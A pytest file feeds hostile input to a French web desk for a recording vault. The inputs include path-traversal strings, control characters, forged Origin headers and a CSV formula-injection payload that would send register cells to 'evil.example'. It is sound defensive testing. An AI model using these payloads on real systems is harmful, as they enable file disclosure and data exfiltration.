"""Every route and every field of the chief's desk against the classes of hostile input the
testers replay (the command line's are in test_cli_hostile.py): empty values, control
characters, bytes that are not UTF-8, over-long values, numbers Python reads but a person
does not write (``1_0``, ``１２``, ``nan``, ``1e308``), impossible or odd dates, unknown or
path-like ids, a field given twice, a missing form token, and values the vault would refuse
in English (a name already used, a range backwards, a hold twice, a recording past its
retention or erased).

Each is refused by a French page with a 4xx status whose reason names the field (never a
500, a traceback, the vault's English words or the whole value echoed back), nothing already
recorded changes (the journal only grows by the desk's own ``desk-refused`` lines, the
register not at all), and the refusals that are attempts to access are still logged.
Over real HTTP (the desk under uvicorn in this process), raw bytes on the wire."""

from __future__ import annotations

import csv
import html
import http.client
import io
import re
import time
from datetime import datetime, timedelta
from urllib.parse import quote

import pytest
from conftest import read_jsonl

from tests.desk_support import PASSPHRASE, PERSON, ServedDesk, small_vault
from tools.desk.access import Refused
from tools.desk.jobs import Jobs
from tools.vault.retention import hold, purge
from tools.vault.vault import Vault


class Raw(str):
    """A value sent as these bytes on the wire, not percent-encoded (``%ff%fe``: not UTF-8)."""


LONG = "x" * 10_000
NOT_UTF8 = Raw("%ff%fe")
CONTROLS = {"nul": "a\x00b", "escape": "a\x1b[31mb", "newline": "a\nb", "tab": "a\tb", "del": "a\x7fb",
            "c1": "a\x9bb", "bidi-override": "a\u202eb", "zero-width": "a\u200bb"}
TEXT_BAD = {**CONTROLS, "not-utf8": NOT_UTF8, "long": LONG}
NUMBER_BAD = {"word": "abc", "negative": "-1", "huge": "99999999999999999999999", "exponent": "1e308",
              "nan": "nan", "inf": "inf", "underscore": "1_0", "fullwidth": "\uff11\uff12", "hex": "0x10",
              "two-points": "1.5.2", "spaced": "3 4", "path": "../../etc/passwd", "nul": "1\x002",
              "not-utf8": NOT_UTF8, "long": LONG}
DATE_BAD = {"31-february": "31/02/2026", "zeros": "0000-00-00", "year-99999": "01/01/99999",
            "25h61": "27/11/2026 25:61", "iso-week": "2026-W01", "compact": "20261127", "year-1899": "01/01/1899",
            "spring-gap": "29/03/2026 02:30", "autumn-twice": "25/10/2026 02:30", "offset-99h": "2026-11-27T14:05+99:00",
            "nan": "nan", "path": "../../etc/passwd", "nul": "27/11/2026\x00", "not-utf8": NOT_UTF8, "long": LONG}
NAME_BAD = {"dot-dot": "..", "path": "../../etc/passwd", "slash": "a/b", "backslash": "a\\b", "hidden": ".bashrc",
            "only-extension": ".mp4", "dots-inside": "a..b", "space": "a b", "nul": "a\x00b", "not-utf8": NOT_UTF8,
            "long": LONG, "empty": "", "blank": "   "}
CHOICE_BAD = {"empty": "", "french-word": "judiciaire", "upper": "JUDICIAL", "nul": "judicial\x00",
              "not-utf8": NOT_UTF8, "long": LONG, "path": "../../etc/passwd"}
ENGLISH = ("not a date", " is not ", "file exists", "must be", "does not exist", "happens twice", "out of range",
           "--to", "--out", "already held", "refused:", "Traceback", "Internal Server Error")


@pytest.fixture(scope="module")
def made(tmp_path_factory):
    """A vault holding two recordings of 4 s made yesterday; the chief designated."""
    made = small_vault(tmp_path_factory.mktemp("desk-hostile"), recordings=2)
    made["rid"], made["aged"] = made["rids"]
    return made


class Client:
    """Raw HTTP to the served desk: the bytes of the query and the form as written, cookies kept."""

    def __init__(self, desk):
        self.url = desk.url
        self.host, port = desk.url.removeprefix("http://").split(":")
        self.port = int(port)
        self.cookies: dict[str, str] = {}

    def request(self, method: str, path: str, body: bytes | None = None, headers: dict | None = None):
        connection = http.client.HTTPConnection(self.host, self.port, timeout=30)
        sent = {"Host": f"{self.host}:{self.port}"}
        if self.cookies:
            sent["Cookie"] = "; ".join(f"{k}={v}" for k, v in self.cookies.items())
        if body is not None:
            sent.update({"Origin": self.url, "Content-Type": "application/x-www-form-urlencoded"})
        sent.update(headers or {})
        connection.request(method, path, body=body, headers=sent)
        response = connection.getresponse()
        page = response.read().decode("utf-8", "replace")
        for name, value in response.getheaders():
            if name.lower() == "set-cookie":
                key, _, rest = value.partition("=")
                if "Max-Age=0" in value or "1970" in value:
                    self.cookies.pop(key, None)
                else:
                    self.cookies[key] = rest.split(";")[0]
        connection.close()
        return response.status, page, response

    def get(self, path: str):
        return self.request("GET", path)

    def post(self, path: str, fields) -> tuple:
        return self.request("POST", path, encode(fields))

    def token(self, rid: str) -> str:
        """A fresh form token of this session (every form of the desk takes any of them)."""
        _, page, _ = self.get(f"/enregistrements/{rid}")
        return re.search(r'name="csrf" value="([^"]+)"', page).group(1)

    def job_end(self, status, page, response, timeout: float = 60):
        """Where a form answered by a job (``/travaux/...``) ends: the job's last page."""
        target = response.getheader("Location") or ""
        if status != 303 or not target.startswith("/travaux/"):
            return status, page
        deadline = time.monotonic() + timeout
        while True:
            status, page, _ = self.get(target)
            if 'id="actualiser"' not in page:
                return status, page
            assert time.monotonic() < deadline, "the job did not end"
            time.sleep(0.2)

    def sign_in(self):
        _, page, _ = self.get("/connexion")
        jeton = re.search(r'name="jeton" value="([^"]+)"', page).group(1)
        status, _, _ = self.post("/connexion", {"jeton": jeton, "personne": PERSON, "phrase": PASSPHRASE})
        assert status == 303 and "pieton_desk" in self.cookies


def encode(fields) -> bytes:
    """``fields`` (a dict, or pairs for a field given twice) as a form body; Raw values as they are."""
    pairs = fields.items() if isinstance(fields, dict) else fields
    return "&".join(f"{quote(k)}={v if isinstance(v, Raw) else quote(v, safe='')}" for k, v in pairs).encode()


def query(fields) -> str:
    return "?" + encode(fields).decode()


@pytest.fixture(scope="module")
def desk(made):
    served = ServedDesk(made)
    yield served
    served.stop()


@pytest.fixture(scope="module")
def client(desk):
    c = Client(desk)
    c.sign_in()
    return c


def records(made) -> tuple[list[dict], bytes]:
    return read_jsonl(made["vault"] / "journal.jsonl"), made["register"].read_bytes()


def reason_of(page: str) -> str:
    found = re.search(r'id="raison">(.*?)</p>', page, re.S)
    assert found, f"not a refusal page: {html.unescape(page)[:500]}"
    return html.unescape(found.group(1))


def assert_refused(status: int, page: str, names: str, *, statuses=range(400, 500)) -> str:
    """A French refusal page with a 4xx status whose reason names ``names``; never the
    vault's English, never the whole of a long value."""
    assert status in statuses, f"{status}: {html.unescape(page)[:600]}"
    assert '<html lang="fr">' in page and 'id="refus"' in page
    reason = reason_of(page)
    assert names in reason, f"the reason does not name {names!r}: {reason}"
    for english in ENGLISH:
        assert english not in reason, f"English in the page ({english!r}): {reason}"
    assert LONG[:200] not in page, "the whole over-long value is shown back"
    return reason


def assert_nothing_recorded(before, made, *, attempt: bool | None = None) -> None:
    """Nothing recorded changed: the journal only grew by the desk's own refusals (one when
    ``attempt``), the register not at all."""
    journal, register = records(made)
    assert journal[:len(before[0])] == before[0], "an entry of the journal changed"
    added = journal[len(before[0]):]
    assert all(e["event"] == "desk-refused" for e in added), [e["event"] for e in added]
    if attempt is not None:
        assert len(added) == (1 if attempt else 0), added
    assert register == before[1], "the register changed"


# -- the forms: (route, the fields of a well-formed form, the field made hostile, how its refusal names it)
def _forms(rid: str, day: str) -> dict:
    record = f"/enregistrements/{rid}"
    consult = {"motif": "judicial", "demandeur": "OPJ Durand"}
    extract = {"motif": "training", "demandeur": "OPJ Durand", "destinataire": "Parquet", "nom": "NAME",
               "debut": "0,5", "fin": "3", "plaques": ""}
    search = {"motif": "judicial", "demandeur": "OPJ Durand", "du": day + " 00:00", "au": day + " 23:00",
              "lieu": "46.95,4.30", "rayon": "500", "agent": "A-1234", "raison": "", "avertissement": ""}
    xid = "X-training-0123456789abcdef"
    return {"consult": (f"{record}/consulter", consult), "extract": (f"{record}/extraire", extract),
            "hold": (f"{record}/retenir", {"procedure": "PV 2026-1"}),
            "release": (f"{record}/liberer", {"procedure": "PV 2026-1"}),
            "search": ("/recherche", search),
            "training-reject": (f"/formation/{xid}/refuser", {"raison": "un visage à 2 s"}),
            "training-approve": (f"/formation/{xid}/valider", {"verifie": "oui"}),
            "training-redo": (f"/formation/{xid}/refaire", {"plaques": "1.0,5,5,40,20"})}


TEXT_FIELDS = [("consult", "demandeur", "demandeur"), ("extract", "demandeur", "demandeur"),
               ("extract", "destinataire", "destinataire"), ("hold", "procedure", "procédure"),
               ("release", "procedure", "procédure"), ("search", "demandeur", "demandeur"),
               ("search", "agent", "agent"), ("search", "lieu", "ieu"),
               ("training-reject", "raison", "motif du refus")]
NUMBER_FIELDS = [("extract", "debut", "Début"), ("extract", "fin", "Fin"), ("search", "rayon", "Rayon")]
PLATE_FIELDS = [("extract", "plaques", "laque"), ("training-redo", "plaques", "laque")]
DATE_FIELDS = [("search", "du", "(Du)"), ("search", "au", "(Au)")]
CHOICE_FIELDS = [("consult", "motif", "otif"), ("extract", "motif", "otif"), ("search", "motif", "motif"),
                 ("training-approve", "verifie", "Cochez")]
OPTIONAL_CHOICE_FIELDS = [("search", "raison", "Déclenchement"), ("search", "avertissement", "Avertissement")]
CHOICE_SET = {k: v for k, v in CHOICE_BAD.items() if k != "empty"}   # empty: "indifférent", "tous"


def _cases(fields, values):
    return [pytest.param(form, field, names, value, id=f"{form}-{field}-{kind}")
            for form, field, names in fields for kind, value in values.items()]


@pytest.fixture(scope="module")
def day():
    return (datetime.now() - timedelta(days=1)).strftime("%d/%m/%Y")


_names = iter(range(10**6))


def send_form(client, made, day, form, field, value):
    path, fields = _forms(made["rid"], day)[form]
    fields = {k: (f"h-{next(_names)}" if v == "NAME" else v) for k, v in fields.items()}
    return client.post(path, {"csrf": client.token(made["rid"]), **fields, field: value})


@pytest.mark.parametrize("form, field, names, value", [
    *_cases(TEXT_FIELDS, TEXT_BAD), *_cases(NUMBER_FIELDS, NUMBER_BAD), *_cases(DATE_FIELDS, DATE_BAD),
    *_cases(CHOICE_FIELDS, CHOICE_BAD), *_cases(OPTIONAL_CHOICE_FIELDS, CHOICE_SET),
    *_cases([("extract", "nom", "fichier")], NAME_BAD),
    *_cases(PLATE_FIELDS, {**NUMBER_BAD, "many": "1.0,5,5,40,20\n" * 1000, "nul-in-box": "1.0,5,5\x00,40,20",
                               "arabic-digits": "\u0661.\u0660,5,5,40,20", "huge-box": "1.0,5,5,99999999,20",
                               "tiny-box": "1.0,5,5,1,1", "far-instant": "99999999.0,5,5,40,20"})])
def test_a_hostile_value_in_a_form_is_refused_naming_its_field(client, made, day, form, field, names, value):
    before = records(made)
    status, page, _ = send_form(client, made, day, form, field, value)
    assert_refused(status, page, names)
    assert_nothing_recorded(before, made)
    assert not list(made["exports"].glob("h-*")), "an extraction was written"


QUERIES = [("/enregistrements", "tri", "tri=", CHOICE_BAD), ("/enregistrements", "ordre", "ordre=", CHOICE_BAD),
           ("/enregistrements", "page", "page=", {**NUMBER_BAD, "zero": "0", "empty": ""}),
           ("/registre", "de", "(Du)", DATE_BAD), ("/registre", "a", "(Au)", DATE_BAD),
           ("/registre", "evenement", "evenement=", CHOICE_SET),
           ("/registre", "format", "format=", CHOICE_BAD),
           ("/chiffres", "annee", "annee=", {**NUMBER_BAD, "year-1999": "1999", "empty": ""})]


@pytest.mark.parametrize("path, name, names, value", [
    pytest.param(path, name, names, value, id=f"{path[1:]}-{name}-{kind}")
    for path, name, names, values in QUERIES for kind, value in values.items()])
def test_a_hostile_value_in_an_address_is_refused_naming_its_parameter(client, made, path, name, names, value):
    before = records(made)
    status, page, _ = client.get(path + query({name: value}))
    assert_refused(status, page, names)
    assert_nothing_recorded(before, made, attempt=False)


IDS = {"dot-dot": "..%2F..%2Fetc%2Fpasswd", "encoded-dots": "%2e%2e", "not-utf8": "%ff%fe", "nul": "%00",
       "long": "A" * 10_000, "lower-case": "cam-t-001_20261130t000000z_000000",
       "unknown": "CAM-T-001_20200101T000000Z_000000", "bidi": "%E2%80%AEabc"}
ID_ROUTES = [("GET", "/enregistrements/{}"), ("POST", "/enregistrements/{}/consulter"),
             ("POST", "/enregistrements/{}/extraire"), ("POST", "/enregistrements/{}/retenir"),
             ("GET", "/lecture/{}"), ("GET", "/travaux/{}"), ("GET", "/extractions/{}"),
             ("GET", "/extractions/{}.mp4"), ("GET", "/formation/{}"), ("POST", "/formation/{}/valider")]


@pytest.mark.parametrize("method, route, value", [
    pytest.param(method, route, value, id=f"{method}-{route.strip('/{}').replace('/{}/', '-')}-{kind}")
    for method, route in ID_ROUTES for kind, value in IDS.items()])
def test_an_id_of_another_shape_is_refused_and_the_attempt_logged(client, made, method, route, value):
    before = records(made)
    path = route.format(value)
    if method == "POST":
        fields = {"csrf": client.token(made["rid"]), "motif": "judicial", "demandeur": "OPJ", "destinataire": "P",
                  "nom": f"h-{next(_names)}", "procedure": "PV", "verifie": "oui"}
        status, page, response = client.post(path, fields)
        status, page = client.job_end(status, page, response)
    else:
        status, page, _ = client.get(path)
    assert 400 <= status < 500 and '<html lang="fr">' in page and 'id="refus"' in page, (status, page[:300])
    for english in ENGLISH:
        assert english not in reason_of(page)
    assert "A" * 200 not in page
    assert_nothing_recorded(before, made)


@pytest.mark.parametrize("path", [pytest.param("/" + "a" * 10_000, id="long"), pytest.param("/a%00b", id="nul"),
                                  pytest.param("/%1b%5b31m", id="escape"), pytest.param("/%ff%fe", id="not-utf8"),
                                  pytest.param("/statique/..%2F..%2Fapp.py", id="static-dot-dot")])
def test_an_address_the_desk_does_not_have_is_a_french_page_that_does_not_echo_it_whole(client, path):
    status, page, _ = client.get(path)
    assert status == 404 and '<html lang="fr">' in page and "a" * 200 not in page
    assert "\x1b" not in page and "\x00" not in page


DUPLICATES = [("consult", "motif", "training"), ("consult", "demandeur", "Autre"), ("extract", "nom", "autre"),
              ("extract", "debut", "1"), ("hold", "procedure", "PV 2"), ("search", "motif", "access"),
              ("training-reject", "raison", "autre"), ("consult", "csrf", "forged")]


@pytest.mark.parametrize("form, field, second", [pytest.param(*d, id=f"{d[0]}-{d[1]}") for d in DUPLICATES])
def test_a_field_given_twice_is_refused_and_the_attempt_logged(client, made, day, form, field, second):
    path, fields = _forms(made["rid"], day)[form]
    fields = {"csrf": client.token(made["rid"]), **{k: ("h-dup" if v == "NAME" else v) for k, v in fields.items()}}
    before = records(made)
    for pairs in ([*fields.items(), (field, second)], [(field, second), *fields.items()]):
        status, page, _ = client.post(path, pairs)
        assert_refused(status, page, f"{field!r}")
        assert "deux fois" in reason_of(page)
    assert_nothing_recorded(before, made)
    assert [e["event"] for e in records(made)[0][len(before[0]):]] == ["desk-refused"] * 2


@pytest.mark.parametrize("path, pairs", [
    ("/enregistrements", [("tri", "camera"), ("tri", "debut")]), ("/registre", [("evenement", ""), ("evenement", "hold")]),
    ("/chiffres", [("annee", "2026"), ("annee", "2025")])])
def test_a_parameter_given_twice_in_an_address_is_refused(client, made, path, pairs):
    status, page, _ = client.get(path + query(pairs))
    assert_refused(status, page, f"{pairs[0][0]!r}")


@pytest.mark.parametrize("form", ["consult", "extract", "hold", "release", "search", "training-reject",
                                  "training-redo"])
def test_a_form_without_its_token_is_refused_and_the_attempt_logged(client, made, day, form):
    path, fields = _forms(made["rid"], day)[form]
    before = records(made)
    status, page, _ = client.post(path, {k: ("h-x" if v == "NAME" else v) for k, v in fields.items()})
    assert_refused(status, page, "jeton de sécurité", statuses=[403])
    assert_nothing_recorded(before, made, attempt=True)


def test_values_the_vault_would_refuse_in_english_are_refused_by_the_form_in_french(client, made, day):
    rid = made["rid"]
    # A file name already used in the exports folder (said before any job, with no server path).
    (made["exports"] / "pris.report.json").write_text("{}")
    before = records(made)
    status, page, _ = send_form(client, made, day, "extract", "nom", "pris")
    reason = assert_refused(status, page, "Nom du fichier")
    assert "existe déjà" in reason and str(made["exports"]) not in reason
    # A range that ends before it starts.
    status, page, _ = client.post(f"/enregistrements/{rid}/extraire", {
        "csrf": client.token(rid), "motif": "judicial", "demandeur": "OPJ", "destinataire": "P", "nom": "h-range",
        "debut": "3", "fin": "1"})
    assert_refused(status, page, "Fin")
    # A register period backwards.
    status, page, _ = client.get("/registre" + query({"de": "02/12/2026", "a": "01/12/2026"}))
    assert_refused(status, page, "(Au)")
    assert_nothing_recorded(before, made, attempt=False)
    # A hold placed twice, a hold released that was never placed.
    status, _, _ = client.post(f"/enregistrements/{rid}/retenir", {"csrf": client.token(rid), "procedure": "PV 7"})
    assert status == 303
    before = records(made)
    status, page, _ = client.post(f"/enregistrements/{rid}/retenir", {"csrf": client.token(rid), "procedure": "PV 7"})
    assert "déjà retenu" in assert_refused(status, page, "PV 7")
    status, page, _ = client.post(f"/enregistrements/{rid}/liberer", {"csrf": client.token(rid), "procedure": "PV 8"})
    assert "n'est pas retenu" in assert_refused(status, page, "PV 8")
    assert_nothing_recorded(before, made, attempt=False)
    status, _, _ = client.post(f"/enregistrements/{rid}/liberer", {"csrf": client.token(rid), "procedure": "PV 7"})
    assert status == 303


def test_a_recording_past_its_retention_then_erased_is_refused_in_french_and_still_logged(desk, client, made):
    aged, rid = made["aged"], made["rid"]
    later = time.time() + 40 * 86400
    with Vault.open(made["vault"]) as opened:   # the other recording is held: the purge keeps it
        hold(opened, rid, "PV gardé")
    vault = desk.app.state.desk.vault
    saved, vault.clock = vault.clock, (lambda: later)
    try:
        status, page, _ = client.post(f"/enregistrements/{aged}/consulter", {
            "csrf": client.token(aged), "motif": "judicial", "demandeur": "OPJ"})
        reason = reason_of(page)
        assert status == 400 and "durée de conservation de cet enregistrement est échue" in reason, reason
        journal = records(made)[0]
        assert journal[-1]["event"] == "extraction-failed" and "retention" in journal[-1]["reason"]  # logged as before
        status, page, _ = client.post(f"/enregistrements/{aged}/retenir", {"csrf": client.token(aged),
                                                                          "procedure": "PV tardif"})
        assert status == 400 and "durée de conservation" in reason_of(page)
        assert records(made)[0][-1]["event"] == "hold-refused"                                    # logged as before
        with Vault.open(made["vault"], clock=lambda: later) as opened:
            assert aged in purge(opened).erased
        before = records(made)
        for method, path in (("GET", f"/enregistrements/{aged}"), ("POST", f"/enregistrements/{aged}/consulter"),
                             ("POST", f"/enregistrements/{aged}/retenir")):
            if method == "GET":
                status, page, _ = client.get(path)
            else:
                status, page, _ = client.post(path, {"csrf": client.token(made["rid"]), "motif": "judicial",
                                                     "demandeur": "OPJ", "procedure": "PV"})
            assert "a été effacé le" in assert_refused(status, page, aged, statuses=[410])
        assert_nothing_recorded(before, made)
        assert len(records(made)[0]) == len(before[0]) + 3    # each an attempt, logged
    finally:
        vault.clock = saved


def test_a_sign_in_form_giving_a_field_twice_is_refused(desk):
    other = Client(desk)
    _, page, _ = other.get("/connexion")
    jeton = re.search(r'name="jeton" value="([^"]+)"', page).group(1)
    status, page, _ = other.post("/connexion", [("jeton", jeton), ("personne", "Quelqu'un"), ("personne", PERSON),
                                                ("phrase", PASSPHRASE)])
    assert_refused(status, page, "'personne'")
    assert "pieton_desk" not in other.cookies
    status, page, _ = other.get("/connexion?raison=sortie&raison=verrouillee")
    assert_refused(status, page, "'raison'")


@pytest.mark.parametrize("fields, names, status", [
    ({"personne": "a\x00b", "phrase": "x"}, "Choisissez votre nom", 400),
    ({"personne": LONG, "phrase": "x"}, "Choisissez votre nom", 400),
    ({"personne": PERSON, "phrase": ""}, "", 400),
    ({"personne": PERSON, "phrase": "a\x00b"}, "", 401),
    ({"personne": PERSON, "phrase": NOT_UTF8}, "", 401)])
def test_hostile_sign_in_fields_get_a_clear_page(desk, made, fields, names, status):
    other = Client(desk)
    _, page, _ = other.get("/connexion")
    jeton = re.search(r'name="jeton" value="([^"]+)"', page).group(1)
    got, page, _ = other.post("/connexion", {"jeton": jeton, **fields})
    assert got == status and '<html lang="fr">' in page and "pieton_desk" not in other.cookies
    assert names in html.unescape(page) and LONG[:200] not in page


def test_well_formed_values_still_pass(client, made, day):
    """The readers refuse the odd spellings, not the ones the pages show."""
    rid = made["rid"]
    for path in ("/registre?de=27%2F11%2F2026&a=2026-11-28T00%3A00%2B01%3A00", "/registre?de=27%2F11%2F2026+14h05",
                 "/chiffres?annee=2026", "/enregistrements?tri=camera&ordre=asc&page=1",
                 f"/enregistrements/{rid}?debut=1%2C5&fin=3"):
        status, page, _ = client.get(path)
        assert status == 200, (path, reason_of(page) if 'id="raison"' in page else page[:300])
    status, _, _ = client.post(f"/enregistrements/{rid}/consulter", {"csrf": client.token(rid), "motif": "judicial",
                                                                    "demandeur": "OPJ Durand"})
    assert status == 303      # the extraction form shows once the recording is consulted
    _, page, _ = client.get(f"/enregistrements/{rid}?debut=1%2C5&fin=3")
    assert 'name="debut" inputmode="decimal" value="1.5"' in page and 'name="fin" inputmode="decimal" value="3.0"' in page
    _, page, _ = client.get(f"/enregistrements/{rid}?debut=1_0&fin=-1")
    assert 'name="debut" inputmode="decimal" value=""' in page and 'name="fin" inputmode="decimal" value=""' in page
    status, page, _ = send_form(client, made, day, "search", "lieu", "46.951, 4.299")
    assert status == 200 and 'id="refus"' not in page


@pytest.mark.parametrize("headers, status", [
    pytest.param({"Origin": "http://["}, 403, id="origin-broken-ipv6"),
    pytest.param({"Origin": "", "Referer": "http://[::1/enregistrements"}, 403, id="referer-broken-ipv6"),
    pytest.param({"Origin": "http://127.0.0.1:99999999"}, 403, id="origin-port-out-of-range"),
    pytest.param({"Origin": "null"}, 403, id="origin-null"),
    pytest.param({"Origin": "http://evil.example"}, 403, id="origin-other-site"),
    pytest.param({"Sec-Fetch-Site": "cross-site"}, 403, id="cross-site"),
    pytest.param({"Content-Type": "multipart/form-data"}, 400, id="multipart-without-boundary"),
    pytest.param({"Content-Type": "text/plain"}, 403, id="not-a-form")])
def test_hostile_headers_on_a_form_get_a_clear_page_never_a_500(client, made, headers, status):
    rid = made["rid"]
    before = records(made)
    body = encode({"csrf": client.token(rid), "procedure": "PV en-têtes"})
    got, page, _ = client.request("POST", f"/enregistrements/{rid}/retenir", body, headers)
    assert got == status and '<html lang="fr">' in page and 'id="refus"' in page, (got, page[:300])
    assert_nothing_recorded(before, made)
    assert "PV en-têtes" not in client.get(f"/enregistrements/{rid}")[1]   # no hold placed


def test_a_requester_written_as_a_formula_stays_text_in_the_registers_csv(client, made):
    """A spreadsheet runs a cell starting with = + - @ as a formula (a link sending the
    register's neighbouring cells away): the CSV quotes it; the register keeps what was typed."""
    rid = made["rid"]
    formula = '=HYPERLINK("http://evil.example/?"&A1;"voir")'
    status, _, _ = client.post(f"/enregistrements/{rid}/consulter", {"csrf": client.token(rid), "motif": "judicial",
                                                                    "demandeur": formula})
    assert status == 303
    assert read_jsonl(made["register"])[-1]["requester"] == formula
    status, csv_text, response = client.get("/registre?format=csv&evenement=consultation")
    assert status == 200 and response.getheader("Content-Type").startswith("text/csv")
    cells = [cell for row in list(csv.reader(io.StringIO(csv_text.lstrip("\ufeff")), delimiter=";"))[1:]
             for cell in row]
    assert "'" + formula in cells
    assert not [cell for cell in cells if cell.startswith(("=", "+", "@"))], cells


class _Person:
    matricule, person, token = "PM-0042", PERSON, "t0ken"


def _refusing():
    raise Refused(404, "Enregistrement introuvable", "absent", attempt=True)


def _wait(job, limit: float = 10):
    deadline = time.monotonic() + limit
    while job.running:
        assert time.monotonic() < deadline, f"the job {job.what!r} never ended"
        time.sleep(0.02)


def test_a_job_refused_is_journaled_before_its_page_says_it_ended():
    journaled = []

    def slow(job, exc):
        time.sleep(0.3)
        journaled.append(job.id)

    job = Jobs(refused=slow).start(("a",), "premier", _Person(), "/x", _refusing)
    _wait(job)
    assert journaled == [job.id], "the job's page said it ended before its attempt was journaled"


def test_the_next_jobs_still_run_when_a_refusal_cannot_be_journaled():
    def broken(job, exc):
        raise RuntimeError("journal unwritable in an unforeseen way")

    jobs = Jobs(refused=broken)
    first = jobs.start(("a",), "premier", _Person(), "/x", _refusing)
    _wait(first)
    assert first.error.status == 404
    second = jobs.start(("b",), "second", _Person(), "/x", lambda: {"template": "t", "context": {}})
    _wait(second, limit=5)   # the worker survived
    assert second.error is None and second.result == {"template": "t", "context": {}}


@pytest.fixture(scope="module")
def extracted(client, made):
    """An extraction made in the session (offered for download)."""
    rid = made["rid"]
    status, page, response = client.post(f"/enregistrements/{rid}/extraire", {
        "csrf": client.token(rid), "motif": "judicial", "demandeur": "OPJ", "destinataire": "P", "nom": "remise"})
    status, page = client.job_end(status, page, response)
    assert status == 200 and 'id="extraction-faite"' in page, reason_of(page)
    return "/extractions/remise.mp4", (made["exports"] / "remise.mp4").stat().st_size


RANGES = {"word": "bytes=abc", "backwards": "bytes=5-1", "not-bytes": "items=0-1", "suffix-zero": "bytes=-0",
          "past-the-end": "bytes=999999999-", "200-ranges": "bytes=" + ",".join(f"{i}-{i}" for i in range(200)),
          "two-ranges": "bytes=0-0,-1", "arabic-digit": "bytes=\u0661-", "40-digits": "bytes=" + "9" * 40 + "-"}


@pytest.mark.parametrize("wanted", [pytest.param(v, id=k) for k, v in RANGES.items()])
def test_a_hostile_range_on_a_download_gets_a_french_page(client, extracted, wanted):
    path, size = extracted
    status, page, _ = client.request("GET", path, headers={"Range": wanted.encode("utf-8").decode("latin-1")})
    assert_refused(status, page, "Plage d'octets")
    status, page, response = client.request("GET", path, headers={"Range": "bytes=4-"})   # taken up again
    assert status == 206 and response.getheader("Content-Range") == f"bytes 4-{size - 1}/{size}"
